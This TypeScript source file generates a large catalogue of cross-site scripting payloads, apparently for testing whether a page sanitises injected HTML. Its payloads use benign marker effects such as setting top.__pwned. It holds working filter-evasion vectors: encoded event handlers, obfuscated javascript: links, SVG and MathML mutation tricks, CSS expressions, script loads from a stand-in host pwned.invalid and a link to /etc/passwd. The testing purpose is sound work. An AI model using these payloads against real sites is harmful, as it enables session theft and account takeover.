// Texts that try to act in the name of whoever views them, and the files of a run that carry them.
//
// Each has a number, reports it wherever it gets to run, and stands beside a mark (`seen-P123`) that is not part of
// it: a page that shows the mark has shown the file. Knows nothing of pages; tests/payloads.spec.ts views the files.

/** What distinguishes a payload from others, apart from its text. */
type Trait =
  /** It runs by itself in a page that inserts it unchanged. */
  | 'fires'
  /** It runs in such a page when its link is clicked. */
  | 'clicks'
  /** It may swallow what follows in the same document. */
  | 'open';

/** One attempt. */
export interface Payload {
  /** `P` and three digits. */
  id: string;
  kind: Kind;
  name: string;
  text: string;
  /** The text with another number and another effect: payloads with equal shapes are one attack in two places. */
  shape: string;
  traits: readonly Trait[];
}

type Vector = readonly [name: string, text: (c: Code) => string, ...traits: Trait[]];

/** What a payload does when it runs; each effect is noticed from outside. No spaces, no double quotes, no tags. */
const EFFECTS: ((id: string) => string)[] = [
  (id) => `top.__pwned='${id}'`,
  (id) => `alert('pwned-${id}')`,
  (id) => `fetch('/pwned?${id}')`,
  (id) => `document.title='pwned-${id}'`,
  (id) => `parent.__pwned='${id}'`,
  (id) => `document.cookie='pwned=${id}'`,
  (id) => `self.__pwned='${id}'`,
  (id) => `top.open('/pwned?${id}')`,
  (id) => `localStorage.pwned='${id}'`,
  (id) => `confirm('pwned-${id}')`,
  (id) => `(new(Image)).src='/pwned?${id}'`,
];

/** The program of one payload, in the forms that its text may need. */
class Code {
  constructor(
    readonly id: string,
    private readonly turn: number,
  ) {}

  /** With single quotes, without spaces. */
  get js(): string {
    return EFFECTS[this.turn % EFFECTS.length](this.id);
  }

  /** Without any quotes. */
  get bare(): string {
    return this.turn % 2 ? `alert(/pwned-${this.id}/.source)` : `top.__pwned=/${this.id}/.source`;
  }

  /** For frames: reaches the page around the frame. */
  get up(): string {
    return `top.__pwned='${this.id}'`;
  }

  /** For URLs: a program that returns a value would replace the page with it. */
  get link(): string {
    return `void(${this.js})`;
  }

  /** A script that reports the number. */
  get tag(): string {
    return `<script>${this.js}</script>`;
  }

  /** An image that reports the number. */
  get img(): string {
    return `<img src=x onerror="${this.js}">`;
  }

  /** For places where only a request would be noticed. */
  get address(): string {
    return `/pwned?${this.id}`;
  }
}

const letters = (text: string, form: (code: number) => string) => [...text].map((letter) => form(letter.codePointAt(0)!)).join('');
const decimal = (text: string) => letters(text, (code) => `&#${code};`);
const hexadecimal = (text: string) => letters(text, (code) => `&#x${code.toString(16)};`);
const percent = (text: string) => letters(text, (code) => `%${code.toString(16).padStart(2, '0')}`);
const base64 = (text: string) => Buffer.from(text).toString('base64');

const MARKUP: Vector[] = [
  // Scripts in various spellings.
  ['a script', (c) => c.tag, 'fires'],
  ['a script in mixed case', (c) => `<ScRiPt>${c.js}</sCrIpT>`, 'fires'],
  ['a script whose end tag goes on', (c) => `<script>${c.js}</script x="y">`, 'fires'],
  ['a script with a slash in its tag', (c) => `<script/x>${c.js}</script>`, 'fires'],
  ['a script with a line break in its tags', (c) => `<script\n>${c.js}</script\n>`, 'fires'],
  ['a script with a form feed in its tag', (c) => `<script\ftype=text/javascript>${c.js}</script>`, 'fires'],
  ['a module', (c) => `<script type="module">${c.js}</script>`],
  ['a script of an old language', (c) => `<script language="JavaScript1.2">${c.js}</script>`],
  ['a script of ECMAScript', (c) => `<script type="text/ecmascript">${c.js}</script>`, 'fires'],
  ['a script from a data address', (c) => `<script src="data:text/javascript,${percent(c.js)}"></script>`, 'fires'],
  ['a script from base64', (c) => `<script src="data:text/javascript;base64,${base64(c.js)}"></script>`, 'fires'],
  ['a script from this server', (c) => `<script src="${c.address}"></script>`, 'fires'],
  ['a script from elsewhere', (c) => `<script src="//pwned.invalid/${c.id}.js"></script>`],
  ['a script from elsewhere with backslashes', (c) => `<script src="\\\\pwned.invalid\\${c.id}.js"></script>`],
  ['a script that a filter puts together', (c) => `<scr<script>ipt>${c.js}</scr</script>ipt>`],
  ['a script that two filters put together', (c) => `<scr<scr<script>ipt>ipt>${c.js}</script>`],
  ['a script behind a doubled bracket', (c) => `<<script>${c.js}//<</script>`, 'fires'],
  ['a script in an empty comment', (c) => `<!-->${c.tag}-->`, 'fires'],
  ['a script in a comment of a dash', (c) => `<!--->${c.tag}-->`, 'fires'],
  ['a script behind a comment ended wrongly', (c) => `<!-- --!>${c.tag}-->`, 'fires'],
  ['a picture in an attribute of a comment', (c) => `<!--<img src="--><img src=x onerror=${c.bare}//">`, 'fires'],
  ['a script in a comment for an old browser', (c) => `<!--[if gte IE 4]>${c.tag}<![endif]-->`],
  ['a script beside a comment for others', (c) => `<![if !IE]>${c.tag}<![endif]>`, 'fires'],
  ['a script in character data', (c) => `<![CDATA[${c.tag}]]>`],
  ['a script behind an instruction', (c) => `<?x y=">${c.tag}">`, 'fires'],
  ['a script behind an XML declaration', (c) => `<?xml version="1.0"?>${c.tag}`, 'fires'],
  ['a script behind a broken end tag', (c) => `</ x=">${c.tag}">`, 'fires'],
  ['a script behind a broken declaration', (c) => `<! x=">${c.tag}">`, 'fires'],
  ['a script behind a document type', (c) => `<!DOCTYPE x SYSTEM "y">${c.tag}`, 'fires'],
  ['a script without an end', (c) => `<script>${c.js}`, 'open'],
  ['a script that comments its end out', (c) => `<script>${c.js}//`, 'open'],
  ['a script whose tag never ends', (c) => `<script src=${c.address} x`, 'open'],
  ['a script that was closed twice', (c) => `</script></script>${c.tag}`, 'fires'],
  ['a script behind what holds data of a page', (c) => `"}]}</script>${c.tag}`, 'fires'],
  ['a comment that hides the end of a script', (c) => `<!--<script>${c.js}`, 'open'],
  ['a script for SVG and HTML', (c) => `<svg:script xmlns:svg="http://www.w3.org/2000/svg">${c.js}</svg:script>`],
  ['a script in XHTML', (c) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${c.js}</x:script>`],
  // Breaking out of elements whose content is text.
  ['out of a title', (c) => `<title><img title="</title>${c.tag}"></title>`, 'fires'],
  ['out of a text area', (c) => `<textarea><img title="</textarea>${c.tag}"></textarea>`, 'fires'],
  ['out of an example', (c) => `<xmp><p title="</xmp><svg/onload=${c.bare}></svg>"></xmp>`, 'fires'],
  ['out of a style', (c) => `<style>a{content:"</style>${c.tag}"}</style>`, 'fires'],
  ['out of a frame', (c) => `<iframe><p title="</iframe>${c.tag}"></p>`, 'fires'],
  ['out of what is for no plug-in', (c) => `<noembed><p title="</noembed>${c.tag}"></p>`, 'fires'],
  ['out of what is for no frame', (c) => `<noframes><p title="</noframes>${c.tag}"></p>`, 'fires'],
  ['out of what is for no script', (c) => `<noscript><p title="</noscript>${c.img}"></noscript>`, 'open'],
  ['a style for no script', (c) => `<noscript><style></noscript>${c.img}</style>`, 'open'],
  ['plain text', (c) => `<plaintext>${c.tag}`, 'open'],
  ['a title without an end', (c) => `<title>${c.tag}`, 'open'],
  ['a text area without an end', (c) => `<textarea>${c.tag}`, 'open'],
  ['a style without an end', (c) => `<style>${c.tag}`, 'open'],
  ['a comment without an end', (c) => `<!-- ${c.tag}`, 'open'],
  ['an attribute without an end', (c) => `<a title="${c.tag}`, 'open'],
  ['a template', (c) => `<template>${c.tag}</template>`],
  ['a template that is a shadow', (c) => `<p><template shadowrootmode="open">${c.img}</template></p>`],
  ['a template in a select', (c) => `<select><template></select>${c.img}</template></select>`, 'open'],
  ['a style in a select', (c) => `<select><option><style></option></select>${c.img}</style></select>`, 'open'],
  ['an old listing', (c) => `<listing>&lt;img src=x onerror=${c.bare}&gt;</listing>`],
  // SVG within HTML.
  ['a script in SVG', (c) => `<svg>${c.tag}</svg>`, 'fires'],
  ['a script in SVG of entities', (c) => `<svg><script>${decimal(c.js)}</script></svg>`, 'fires'],
  ['a script in SVG from an address', (c) => `<svg><script href="data:text/javascript,${percent(c.js)}"></script></svg>`],
  ['a script in SVG from an old address', (c) => `<svg><script xlink:href="data:text/javascript,${percent(c.js)}"></script></svg>`],
  ['SVG that is loaded', (c) => `<svg/onload="${c.js}"></svg>`, 'fires'],
  ['SVG that is loaded, without quotes', (c) => `<svg onload=${c.bare}></svg>`, 'fires'],
  ['SVG in SVG that is loaded', (c) => `<svg><svg onload="${c.js}"></svg></svg>`],
  ['a picture in a style of SVG', (c) => `<svg><style>${c.img}</style></svg>`, 'fires'],
  ['a picture in a title of SVG', (c) => `<svg><title>${c.img}</title></svg>`, 'fires'],
  ['a script in a description of SVG', (c) => `<svg><desc>${c.tag}</desc></svg>`, 'fires'],
  ['a foreign object of SVG', (c) => `<svg><foreignObject>${c.img}</foreignObject></svg>`, 'fires'],
  ['an animation that begins', (c) => `<svg><animate onbegin="${c.js}" attributeName="x" dur="1s"/></svg>`, 'fires'],
  ['an animation that ends', (c) => `<svg><animate onend="${c.js}" attributeName="x" dur="0.01s"/></svg>`],
  ['an animation that repeats', (c) => `<svg><animate onrepeat="${c.js}" attributeName="x" dur="0.01s" repeatCount="3"/></svg>`],
  ['a value that is set', (c) => `<svg><set onbegin="${c.js}" attributeName="x" to="1"/></svg>`],
  ['an animated link', (c) => `<svg><a><animate attributeName="href" values="javascript:${c.link}"/><text y="20">go</text></a></svg>`],
  ['a link that is set', (c) => `<svg><a><set attributeName="xlink:href" to="javascript:${c.link}"/><text y="20">go</text></a></svg>`],
  ['a link of SVG', (c) => `<svg><a href="javascript:${c.link}"><text y="20">go</text></a></svg>`],
  ['an old link of SVG', (c) => `<svg><a xlink:href="javascript:${c.link}"><text y="20">go</text></a></svg>`],
  ['something used from an address', (c) => `<svg><use href="data:image/svg+xml,${percent(`<svg xmlns="http://www.w3.org/2000/svg" id="x"><image href="x" onerror="${c.js}"/></svg>`)}#x"/></svg>`],
  ['a picture of SVG', (c) => `<svg><image href="x" onerror="${c.js}"/></svg>`],
  ['something thrown away', (c) => `<svg><discard onbegin="${c.js}"/></svg>`],
  ['a handler of SVG', (c) => `<svg><handler type="text/javascript" ev:event="load">${c.js}</handler></svg>`],
  ['character data in SVG', (c) => `<svg><![CDATA[><image xlink:href="]]>${c.img}</svg>`, 'fires'],
  ['a text area in SVG', (c) => `<svg><textarea>${c.img}</textarea></svg>`],
  ['a number in brackets in SVG', (c) => `<svg><a><script>&#x2f;&#x2f;</script></a></svg><svg onload=${c.bare}></svg>`, 'fires'],
  // MathML.
  ['a link of MathML', (c) => `<math href="javascript:${c.link}"><mi>go</mi></math>`],
  ['an old link of MathML', (c) => `<math><maction actiontype="statusline" xlink:href="javascript:${c.link}"><mi>go</mi></maction></math>`],
  ['an annotation of MathML', (c) => `<math><annotation-xml encoding="text/html">${c.tag}</annotation-xml></math>`, 'fires'],
  ['an annotation of XHTML', (c) => `<math><annotation-xml encoding="application/xhtml+xml">${c.img}</annotation-xml></math>`, 'fires'],
  ['a picture in an identifier', (c) => `<math><mi>${c.img}</mi></math>`, 'fires'],
  // Markup that changes when it is serialised and parsed again.
  ['a glyph that is none', (c) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${c.bare}&gt;">`, 'open'],
  ['a style that leaves SVG', (c) => `<svg></p><style><a id="</style><img src=1 onerror=${c.bare}>">`, 'open'],
  ['a form that is in two places', (c) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${c.bare}>`, 'open'],
  ['a link that is nested', (c) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${c.bare}>"></style></h1>`, 'open'],
  ['a paragraph that leaves SVG', (c) => `<svg><p><style><!--</style><img src=x onerror=${c.bare}>--></style>`, 'open'],
  ['an annotation that hides a style', (c) => `<math><annotation-xml encoding="text/html"><style><!--</style></annotation-xml><img title="--><img src=x onerror=${c.bare}>">`, 'open'],
  ['a title of SVG that hides a style', (c) => `<svg><title><style><img title="</style></title><img src=x onerror=${c.bare}>"></style></title></svg>`, 'open'],
  ['a caption that leaves its table', (c) => `<math><mtext><table><caption><svg><style><b title="</style><img src=x onerror=${c.bare}>"></style>`, 'open'],
  ['nests too deep for a parser', (c) => `${'<b>'.repeat(520)}<svg><style><b title="</style><img src=x onerror=${c.bare}>">`, 'open'],
  ['tables too deep for a parser', (c) => `${'<table><td>'.repeat(260)}<svg><title><style><b title="</style><img src=x onerror=${c.bare}>">`, 'open'],
  ['an entity in an attribute of a style', (c) => `<style><b title="&lt;/style&gt;&lt;img src=x onerror=${c.bare}&gt;"></style>`],
  ['a backtick for a quote', (c) => `<img alt="\`\`onerror=${c.bare}" src=y>`],
  ['the first of two equal attributes', (c) => `<img src=x onerror="${c.js}" onerror="">`, 'fires'],
  ['an attribute named like a tag', (c) => `<b <script>=${c.js}</script>>`],
  // Images that fail to load.
  ['a picture that fails', (c) => c.img, 'fires'],
  ['a picture with single quotes', (c) => `<img src='x' onerror='${c.bare}'>`, 'fires'],
  ['a picture without quotes', (c) => `<img src=x onerror=${c.bare}>`, 'fires'],
  ['a picture with slashes for spaces', (c) => `<img/src="x"/onerror="${c.js}">`, 'fires'],
  ['a picture in capitals', (c) => `<IMG SRC=x ONERROR="${c.js}">`, 'fires'],
  ['a picture with line breaks', (c) => `<img\nsrc=x\nonerror\n=\n"${c.js}">`, 'fires'],
  ['a picture with tabs', (c) => `<img\tsrc=x\tonerror\t=\t"${c.js}">`, 'fires'],
  ['a picture with a vertical tab', (c) => `<img\vsrc=x\vonerror="${c.js}">`],
  ['a picture with hard spaces', (c) => `<img\u00a0src=x\u00a0onerror="${c.js}">`],
  ['a picture without a space', (c) => `<img src="x"onerror="${c.js}">`, 'fires'],
  ['a picture of nothing', (c) => `<img src onerror="${c.js}">`, 'fires'],
  ['a picture of sizes', (c) => `<img srcset=x onerror="${c.js}">`, 'fires'],
  ['a picture among sources', (c) => `<picture><source srcset=x><img onerror="${c.js}"></picture>`],
  ['a picture by its old name', (c) => `<image src=x onerror="${c.js}">`, 'fires'],
  ['a picture that is a button', (c) => `<input type=image src=x onerror="${c.js}">`, 'fires'],
  ['a picture without the last bracket', (c) => `<img src=x onerror="${c.js}" `, 'open'],
  ['a picture with a quote that never ends', (c) => `<img """>${c.tag}">`, 'fires'],
  ['a handler of decimal entities', (c) => `<img src=x onerror="${decimal(c.js)}">`, 'fires'],
  ['a handler of hexadecimal entities', (c) => `<img src=x onerror="${hexadecimal(c.js)}">`, 'fires'],
  ['a handler of entities without an end', (c) => `<img src=x onerror="${letters(c.js, (code) => `&#${String(code).padStart(7, '0')}`)}">`, 'fires'],
  ['a handler of named entities', (c) => `<img src=x onerror=alert&lpar;/pwned-${c.id}/.source&rpar;>`, 'fires'],
  ['a handler of escapes', (c) => `<img src=x onerror=\\u0074op.__pwned=/${c.id}/.source>`, 'fires'],
  ['a handler of base64', (c) => `<img src=x onerror="eval(atob('${base64(c.js)}'))">`, 'fires'],
  ['a handler of character codes', (c) => `<img src=x onerror="eval(String.fromCharCode(${[...c.js].map((letter) => letter.charCodeAt(0)).join()}))">`, 'fires'],
  ['a handler that makes a function', (c) => `<img src=x onerror="Function(atob('${base64(c.js)}'))()">`, 'fires'],
  ['a handler with a name put together', (c) => `<img src=x onerror="window['al'+'ert']('pwned-${c.id}')">`, 'fires'],
  ['a handler with a name of a number', (c) => `<img src=x onerror="top[8680439..toString(30)]('pwned-${c.id}')">`, 'fires'],
  ['a handler with a template', (c) => `<img src=x onerror=alert\`pwned-${c.id}\`>`, 'fires'],
  ['a handler that throws', (c) => `<img src=x onerror="window.onerror=alert;throw/pwned-${c.id}/.source">`],
  ['a handler that imports', (c) => `<img src=x onerror="import('data:text/javascript,${percent(c.js)}')">`],
  ['a handler that waits', (c) => `<img src=x onerror="setTimeout(()=>{${c.js}},9)">`, 'fires'],
  ['a handler in capitals', (c) => `<img src=x oNeRrOr="${c.js}">`, 'fires'],
  // Other elements that load, play, or receive the focus.
  ['a film that fails', (c) => `<video src=x onerror="${c.js}"></video>`, 'fires'],
  ['a film whose source fails', (c) => `<video><source src=x onerror="${c.js}"></video>`, 'fires'],
  ['a sound that fails', (c) => `<audio src=x onerror="${c.js}"></audio>`, 'fires'],
  ['a film that begins to load', (c) => `<video onloadstart="${c.js}"><source></video>`],
  ['subtitles that fail', (c) => `<video><track default src=x onerror="${c.js}"></video>`],
  ['an object that fails', (c) => `<object data=x onerror="${c.js}"></object>`],
  ['an embedded thing that is loaded', (c) => `<embed src="data:text/plain,x" onload="${c.js}">`],
  ['a style sheet that fails', (c) => `<link rel=stylesheet href=x onerror="${c.js}">`, 'fires'],
  ['a script that fails', (c) => `<script src=x onerror="${c.js}"></script>`, 'fires'],
  ['a style that is loaded', (c) => `<style onload="${c.js}">i{}</style>`, 'fires'],
  ['a frame that is loaded', (c) => `<iframe onload="${c.js}"></iframe>`, 'fires'],
  ['a body that is loaded', (c) => `<body onload="${c.js}">`],
  ['a body that is shown', (c) => `<body onpageshow="${c.js}">`],
  ['a document that is pointed at', (c) => `<html onmouseover="${c.js}">`],
  ['frames that are loaded', (c) => `<frameset onload="${c.js}"><frame></frameset>`],
  ['details that open', (c) => `<details open ontoggle="${c.js}"><summary>go</summary></details>`, 'fires'],
  ['a marquee that starts', (c) => `<marquee onstart="${c.js}">go</marquee>`],
  ['a marquee that bounces', (c) => `<marquee behavior=alternate onbounce="${c.js}">go</marquee>`],
  ['an animation of style', (c) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${c.js}">go</b>`, 'fires'],
  ['an old animation of style', (c) => `<style>@keyframes k{}</style><b style="animation:k 1ms" onwebkitanimationend="${c.js}">go</b>`],
  ['a transition of style', (c) => `<b id=t style="transition:color 9s" ontransitionrun="${c.js}" onclick="style.color='red'">go</b>`],
  ['content that comes into sight', (c) => `<b style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="${c.js}">go</b>`],
  ['a pop-over', (c) => `<button popovertarget=x>go</button><b popover id=x onbeforetoggle="${c.js}">go</b>`],
  ['a field with the focus', (c) => `<input autofocus onfocus="${c.js}">`],
  ['a choice with the focus', (c) => `<select autofocus onfocus="${c.js}"></select>`],
  ['a text with the focus', (c) => `<textarea autofocus onfocus="${c.js}"></textarea>`],
  ['anything with the focus', (c) => `<b tabindex=1 autofocus onfocus="${c.js}">go</b>`],
  ['a link with the focus', (c) => `<a href="#x" autofocus onfocusin="${c.js}">go</a>`],
  ['a field that loses the focus', (c) => `<input autofocus onblur="${c.js}"><input autofocus>`],
  ['a field that must be filled', (c) => `<form><input required oninvalid="${c.js}"><button>go</button></form>`],
  ['a hidden field with a key', (c) => `<input type=hidden accesskey=x onclick="${c.js}">`],
  ['a policy that is broken', (c) => `<b onsecuritypolicyviolation="${c.js}">go</b><script>0</script>`],
  ['a tag nobody knows', (c) => `<x-y onpointerrawupdate="${c.js}" tabindex=1>go</x-y>`],
  // Events caused by the viewer, each on another element.
  ...(
    [
      ['b', 'click'],
      ['i', 'dblclick'],
      ['p', 'mouseover'],
      ['td', 'mouseenter'],
      ['h1', 'mousemove'],
      ['li', 'mousedown'],
      ['em', 'mouseup'],
      ['pre', 'wheel'],
      ['code', 'contextmenu'],
      ['q', 'pointerover'],
      ['dl', 'pointerenter'],
      ['del', 'pointerdown'],
      ['ins', 'gotpointercapture'],
      ['kbd', 'auxclick'],
      ['sub', 'touchstart'],
      ['sup', 'dragstart'],
      ['th', 'dragover'],
      ['hr', 'drop'],
      ['u', 'copy'],
      ['s', 'cut'],
      ['ol', 'paste'],
      ['tt', 'keydown'],
      ['var', 'beforeinput'],
      ['samp', 'scroll'],
      ['ul', 'scrollend'],
      ['nav', 'beforematch'],
      ['time', 'select'],
      ['mark', 'selectstart'],
    ] as const
  ).map(([tag, event]): Vector => [`${event} of ${tag}`, (c) => `<${tag} on${event}="${c.js}">go</${tag}>`]),
  // Links.
  ['a link', (c) => `<a href="javascript:${c.link}">go</a>`, 'clicks'],
  ['a link in mixed case', (c) => `<a href="JaVaScRiPt:${c.link}">go</a>`, 'clicks'],
  ['a link without quotes', (c) => `<a href=javascript:void(${c.bare})>go</a>`, 'clicks'],
  ['a link behind a space', (c) => `<a href=" javascript:${c.link}">go</a>`, 'clicks'],
  ['a link behind a control character', (c) => `<a href="&#1;javascript:${c.link}">go</a>`, 'clicks'],
  ['a link behind another control character', (c) => `<a href="&#x1f; &#14;javascript:${c.link}">go</a>`, 'clicks'],
  ['a link with a tab', (c) => `<a href="java\tscript:${c.link}">go</a>`, 'clicks'],
  ['a link with a named tab', (c) => `<a href="java&Tab;script:${c.link}">go</a>`, 'clicks'],
  ['a link with a line break', (c) => `<a href="java\nscript:${c.link}">go</a>`, 'clicks'],
  ['a link with a named line break', (c) => `<a href="javascript&NewLine;:${c.link}">go</a>`, 'clicks'],
  ['a link with a carriage return', (c) => `<a href="java&#13;script:${c.link}">go</a>`, 'clicks'],
  ['a link with a named colon', (c) => `<a href="javascript&colon;${c.link}">go</a>`, 'clicks'],
  ['a link of decimal entities', (c) => `<a href="${decimal(`javascript:${c.link}`)}">go</a>`, 'clicks'],
  ['a link of hexadecimal entities', (c) => `<a href="${hexadecimal(`javascript:${c.link}`)}">go</a>`, 'clicks'],
  ['a link of entities without an end', (c) => `<a href="${letters(`javascript:${c.link}`, (code) => `&#x${code.toString(16).padStart(6, '0')}`)}">go</a>`],
  ['a link of percent signs', (c) => `<a href="javascript:${percent(c.link)}">go</a>`, 'clicks'],
  ['a link with a comment', (c) => `<a href="javascript://x%0a${c.link}">go</a>`],
  ['a link that is many things', (c) => `<a href="javascript:/*--></title></style></textarea></xmp>*/${c.link}">go</a>`],
  ['a link with a zero-width space', (c) => `<a href="java\u200bscript:${c.link}">go</a>`],
  ['a link in full width', (c) => `<a href="ｊａｖａｓｃｒｉｐｔ:${c.link}">go</a>`],
  ['a link with a soft hyphen', (c) => `<a href="java\u00adscript:${c.link}">go</a>`],
  ['a link to a new window', (c) => `<a target="_blank" href="javascript:${c.link}">go</a>`],
  ['a link to be saved', (c) => `<a download href="javascript:${c.link}">go</a>`],
  ['a link that does nothing but', (c) => `<a href="#x" onclick="${c.js}">go</a>`, 'clicks'],
  ['a link of Visual Basic', (c) => `<a href="vbscript:MsgBox(&quot;${c.id}&quot;)">go</a>`],
  ['a link of Visual Basic in mixed case', (c) => `<a href="vb&Tab;ScRiPt:${c.link}">go</a>`],
  ['a link of an old name', (c) => `<a href="livescript:${c.link}">go</a>`],
  ['a link to the source of a link', (c) => `<a href="view-source:javascript:${c.link}">go</a>`],
  ['a link to a feed of a link', (c) => `<a href="feed:javascript:${c.link}">go</a>`],
  ['a link in an archive', (c) => `<a href="jar:javascript:${c.link}!/">go</a>`],
  ['a link to a page of its own', (c) => `<a href="data:text/html,<script>opener.__pwned='${c.id}'</script>">go</a>`],
  ['a link to a page of base64', (c) => `<a href="data:text/html;base64,${base64(c.tag)}">go</a>`],
  ['a link to a picture that runs', (c) => `<a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c.bare}'/>">go</a>`],
  ['a link to XHTML of its own', (c) => `<a href="data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${c.bare}</script>">go</a>`],
  ['a link to data of no kind', (c) => `<a href="data:,${c.tag}">go</a>`],
  ['a link to a page of its own with a tab', (c) => `<a href="da&Tab;ta:text/html,<script>opener.__pwned='${c.id}'</script>">go</a>`],
  ['a link to a page of its own with a line break', (c) => `<a href="dat&NewLine;a:text/html;base64,${base64(c.tag)}">go</a>`],
  ['a link to a page of its own behind a control character', (c) => `<a href="&#1;data:text/html,<b onclick=${c.bare}>go</b>">go</a>`],
  ['a link to a page of its own in capitals', (c) => `<a href=" DATA:text/html,<i onclick=${c.bare}>go</i>">go</a>`],
  ['a link to a blob', (c) => `<a href="blob:null/${c.id}">go</a>`],
  ['a link to a file system', (c) => `<a href="filesystem:http://127.0.0.1/temporary/${c.id}.html">go</a>`],
  ['a link to a file', (c) => `<a href="file:///etc/passwd?${c.id}">go</a>`],
  ['a link to a program', (c) => `<a href="intent://pwned.invalid/${c.id}#Intent;scheme=javascript;end">go</a>`],
  ['a link that tells when it is followed', (c) => `<a href="#x" ping="${c.address}">go</a>`],
  ['a part of a picture', (c) => `<map name=m><area shape=default href="javascript:${c.link}"></map><img usemap="#m" alt=go>`],
  ['a link that was closed by its text', (c) => `<a href="#x">"></a>${c.img}</a>`, 'fires'],
  ['a link with a handler in its address', (c) => `<a href='#x"onmouseover="${c.bare}'>go</a>`],
  // Other URLs.
  ['a picture from a script', (c) => `<img src="javascript:${c.link}">`],
  ['a picture from a script with entities', (c) => `<img src="jav&#x0A;ascript:${c.link}">`],
  ['an old source of a picture', (c) => `<img dynsrc="javascript:${c.link}" lowsrc="javascript:${c.link}">`],
  ['a long description', (c) => `<img alt=go longdesc="javascript:${c.link}">`],
  ['a quotation', (c) => `<blockquote cite="javascript:${c.link}">go</blockquote>`],
  ['a background of a body', (c) => `<body background="javascript:${c.link}">`],
  ['a background of a table', (c) => `<table background="javascript:${c.link}"><td background="javascript:${c.link}">go</table>`],
  ['a sound behind a page', (c) => `<bgsound src="javascript:${c.link}">`],
  ['a poster of a film', (c) => `<video poster="javascript:${c.link}"></video>`],
  ['a film of SVG', (c) => `<video src="data:image/svg+xml,<svg onload='${c.bare}'/>"></video>`],
  ['a frame with a script', (c) => `<iframe src="javascript:void(${c.up})"></iframe>`, 'fires'],
  ['a frame with a script with a tab', (c) => `<iframe src="java&Tab;script:void(${c.up})"></iframe>`, 'fires'],
  ['a frame with a page', (c) => `<iframe srcdoc="<script>${c.up}</script>"></iframe>`, 'fires'],
  ['a frame with a page of entities', (c) => `<iframe srcdoc="&lt;img src=x onerror=&quot;${c.up}&quot;&gt;"></iframe>`, 'fires'],
  ['a frame with a page of data', (c) => `<iframe src="data:text/html,<script>${c.up}</script>"></iframe>`],
  ['a frame of this server', (c) => `<iframe src="${c.address}"></iframe>`, 'fires'],
  ['a sandbox that is none', (c) => `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>${c.up}</script>"></iframe>`],
  ['a frame of a set', (c) => `<frameset><frame src="javascript:${c.link}"></frameset>`],
  ['a portal', (c) => `<portal src="javascript:${c.link}"></portal>`],
  ['a fenced frame', (c) => `<fencedframe src="javascript:${c.link}"></fencedframe>`],
  ['an embedded script', (c) => `<embed src="javascript:${c.link}">`],
  ['an embedded picture', (c) => `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${c.up}"/>`)}">`],
  ['an embedded film', (c) => `<embed src="//pwned.invalid/${c.id}.swf" allowscriptaccess=always>`],
  ['an object of a script', (c) => `<object data="javascript:${c.link}"></object>`],
  ['an object of a page', (c) => `<object data="data:text/html;base64,${base64(`<script>${c.up}</script>`)}"></object>`],
  ['an object with a parameter', (c) => `<object classid="clsid:0"><param name=url value="javascript:${c.link}"></object>`],
  ['an applet', (c) => `<applet code="javascript:${c.link}" archive="//pwned.invalid/${c.id}.jar"></applet>`],
  ['a base for links', (c) => `<base href="javascript:${c.link}//"><a href="#x">go</a>`],
  ['a base elsewhere', (c) => `<base href="//pwned.invalid/${c.id}/"><img src="x" alt="">`],
  ['a base for windows', (c) => `<base target="${c.id}"><a href="javascript:${c.link}">go</a>`],
  ['a refresh to a script', (c) => `<meta http-equiv="refresh" content="0;url=javascript:${c.link}">`],
  ['a refresh to a page', (c) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(c.tag)}">`],
  ['a refresh to this server', (c) => `<meta http-equiv="refresh" content="0; url='${c.address}'">`],
  ['a cookie of a page', (c) => `<meta http-equiv="Set-Cookie" content="pwned=${c.id}">`],
  ['a policy of a page', (c) => `<meta http-equiv="Content-Security-Policy" content="script-src 'nonce-${c.id}'"><script nonce="${c.id}">${c.js}</script>`],
  ['a style sheet of a script', (c) => `<link rel=stylesheet href="javascript:${c.link}">`],
  ['a style sheet of this server', (c) => `<link rel=stylesheet href="${c.address}">`, 'fires'],
  ['something fetched ahead', (c) => `<link rel=preload as=script href="${c.address}">`, 'fires'],
  ['an import of HTML', (c) => `<link rel=import href="data:text/html;base64,${base64(c.tag)}">`],
  ['a form of a script', (c) => `<form action="javascript:${c.link}"><input type=submit value=go></form>`],
  ['a form of this server', (c) => `<form method=post action="${c.address}"><input type=submit value=go></form>`],
  ['a button of a script', (c) => `<form><button formaction="javascript:${c.link}">go</button></form>`],
  ['a button for a form elsewhere', (c) => `<button form=x formaction="javascript:${c.link}">go</button><form id=x></form>`],
  ['a field that sends', (c) => `<form><input type=image formaction="javascript:${c.link}" src=x></form>`],
  ['an old index', (c) => `<isindex type=image src=x action="javascript:${c.link}" onerror="${c.js}">`],
  // Styles.
  ['a style of a script', (c) => `<b style="background:url(javascript:${c.bare})">go</b>`],
  ['a style of an expression', (c) => `<b style="width:expression(${c.js})">go</b>`],
  ['a style of an expression with a comment', (c) => `<b style="x:expr/*x*/ession(${c.js})">go</b>`],
  ['a style of a behaviour', (c) => `<b style="behavior:url(//pwned.invalid/${c.id}.htc)">go</b>`],
  ['a style of a binding', (c) => `<b style="-moz-binding:url(data:text/xml,${c.id})">go</b>`],
  ['a style that asks this server', (c) => `<b style="background:url('${c.address}')">go</b>`, 'fires'],
  ['a style with escapes', (c) => `<b style="b\\000061ckground:\\75rl('${c.address}')">go</b>`],
  ['a style that imports', (c) => `<style>@import '${c.address}';</style>`, 'fires'],
  ['a style that imports a script', (c) => `<style>@im\\port'\\ja\\vasc\\ript:${c.bare}';</style>`],
  ['a style for everything', (c) => `<style>*{background:url(${c.address})}</style>`, 'fires'],
  ['a style of lists', (c) => `<style>li{list-style-image:url("javascript:${c.link}")}</style><ul><li>go</ul>`],
  ['a style that is a script', (c) => `<style type="text/javascript">${c.js}</style>`],
  // Other encodings of the same.
  ['UTF-7', (c) => `+ADw-script+AD4-${c.bare}+ADw-/script+AD4-`],
